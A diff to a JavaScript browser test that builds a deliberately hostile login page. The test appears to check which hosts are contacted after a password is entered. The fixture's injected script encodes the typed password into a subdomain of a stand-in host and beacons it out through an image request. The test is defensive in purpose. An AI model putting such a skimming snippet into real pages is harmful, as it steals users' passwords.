@@ -269,7 +269,8 @@ test('once the password is typed, only hosts that a server has named are asked',
   const spelt = `[...new TextEncoder().encode(field.value)].map((byte) => String.fromCharCode(97 + (byte >> 4), 97 + (byte & 15))).join('').slice(0, 60)`;
   const page = await startHostilePage({
     login: `${loginForm()}<script>const field = document.querySelector('[type=password]');
-      field.onchange = () => { new Image().src = 'https://' + ${spelt} + '.elsewhere.test/'; new Image().src = '${recorders.foreign}/?c=named'; };</script>`,
+      field.onchange = () => { new Image().src = 'https://' + ${spelt} + '.elsewhere.test/'; };</script>`,
+    page: (state) => `${keyPage(state)}<img alt="" src="${recorders.foreign}/?c=named">`,
   });
   try {
     const judged = await judgeAt(page, chromium);
